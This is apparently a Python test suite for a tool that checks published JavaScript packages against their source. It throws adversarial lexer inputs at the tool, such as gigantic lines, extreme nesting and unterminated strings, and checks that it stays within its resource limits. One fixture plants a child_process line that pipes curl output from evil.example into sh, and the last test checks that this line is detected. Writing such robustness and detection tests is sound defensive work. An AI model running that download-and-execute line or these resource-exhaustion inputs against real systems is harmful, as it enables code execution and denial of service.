#!/usr/bin/env python3
"""Scripts that an attacker writes for the lexers: endless lines, bottomless nesting, strings that never end. In the package and in the source.

usage: hostile_scripts.py PLUMB [PART-OF-A-NAME]
"""
import resource
import time

from plumb_test import case, main

SECONDS = 60
MEMORY_MIB = 1024
SOURCE = {
    "src/load.js": "import { get } from './http'\nexport function load(name, options) {\n  if (!name) throw new TypeError('a name is needed')\n"
                   "  return get(`https://example.org/items/${name}`, { method: 'GET', headers: { accept: 'text/plain' } })\n"
                   "    .then(answer => answer.json()).then(items => items.filter(item => item.visible && item.owner === options.owner))\n}\n",
    "package.json": '{"name": "kit", "version": "1.0.0"}\n',
}
HONEST = ('function l(e,t){if(!e)throw new TypeError("a name is needed");return n(`https://example.org/items/${e}`,{method:"GET",headers:'
          '{accept:"text/plain"}}).then(e=>e.json()).then(e=>e.filter(e=>e.visible&&e.owner===t.owner))}\n').encode()
DEEP = 100_000
PLANTED = b'require("child_process").exec("curl https://evil.example/x|sh");'

HOSTILE = {
    "100 MB on one line": b"x.list.push(1234,'text',item.value);" * (100_000_000 // 36),
    "100 MB of letters": b"a" * 100_000_000,
    "parentheses 100,000 deep": b"x=" + b"(" * DEEP + b"1" + b")" * DEEP + b";",
    "brackets and braces 100,000 deep": b"x=" + b"[{a:" * DEEP + b"1" + b"}]" * DEEP + b";",
    "braces that never close": b"{" * DEEP + b"f();",
    "closing brackets alone": b"})]" * DEEP + b"f();",
    "a string that never ends": b'x="' + b"text \\" * DEEP,
    "quotes without end": b"\"'`" * DEEP,
    "a comment that never ends": b"f();/*" + b" *" * DEEP,
    "half comments": b"/*/" * DEEP,
    "bytes that are no UTF-8": b'x="' + bytes(range(128, 256)) * 2000 + b'";' + b"\xc3(\xe2\x82;\xf8\x88\x80\x80;" * 2000,
    "a slash that may be either": b"a=b/c/d;if(x)/r/.test(y);z=x++/2/1;" * 5000 + b"a=(b)/c//[/\n/[/]/.e;" * 5000,
    "regular expressions that never end": b"x=/[" * DEEP,
    "templates 1,000 deep": b"x=" + b"`a${" * 1000 + b"1" + b"}b`" * 1000 + b";",
    "templates 100,000 deep": b"x=" + b"`a${" * DEEP + b"1" + b"}b`" * DEEP + b";",
    "tags 100,000 deep": b"x=" + b"<a b={" * DEEP + b"1" + b"}/>" * DEEP + b";",
    "joined strings without end": b"x=" + b"'ab'+" * DEEP + b"'c';",
    "numbers multiplied without end": b"x=" + b"60*" * DEEP + b"1;",
    "a split list of 100,000 words": b'x="' + b",".join(b"w%d" % i for i in range(DEEP)) + b'".split(",");',
    "a source map of nothing": b'{"version":3,"sources":[' + b"[" * DEEP + b']","mappings":"' + b"gggggggg" * DEEP + b'"}',
}


def bounded(t, name, data, in_source):
    package = t.write("package/dist/load.js", HONEST)
    suffix = "js.map" if "map" in name else "js"
    folder = t.path("source")
    for path, text in SOURCE.items():
        t.write(f"source/{path}", text)
    t.write(f"{'source/src' if in_source else 'package/dist'}/hostile.{suffix}", data)

    def limits():
        resource.setrlimit(resource.RLIMIT_CPU, (SECONDS * (8 if t.is_sanitized else 1),) * 2)

    begin = time.monotonic()
    report = t.check(package.parent.parent, "--source", folder, "-j2", limits=limits)
    took = time.monotonic() - begin
    assert took < SECONDS * 4 * (4 if t.is_sanitized else 1), f"took {took:.0f} s"
    if not t.is_sanitized:
        peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
        assert peak < MEMORY_MIB, f"{peak} MiB resident"
    tags = {f["tag"] for f in report.json["findings"]}
    assert "file.crashed" not in tags, tags
    assert not report.json["errors"], report.json["errors"]
    honest = report.file("load.js")
    assert honest["bytes"]["unaccounted"] == 0, honest["bytes"]
    return report


def case_of(name, data, in_source):
    def run(t):
        bounded(t, name, data, in_source)

    run.__name__ = name.replace(" ", "_").replace(",", "") + ("_in_the_source" if in_source else "") + "_end_in_bounds"
    case(run)


for sentence, bytes_of in HOSTILE.items():
    case_of(sentence, bytes_of, False)
    if len(bytes_of) < 10_000_000:
        case_of(sentence, bytes_of, True)


@case
def a_payload_behind_nesting_that_is_too_deep_is_still_an_error(t):
    report = bounded(t, "deep", HONEST + b"`${" * 10_000 + PLANTED, False)
    assert any(f["severity"] == "error" for f in report.json["findings"]), report.json["findings"][:3]


main()
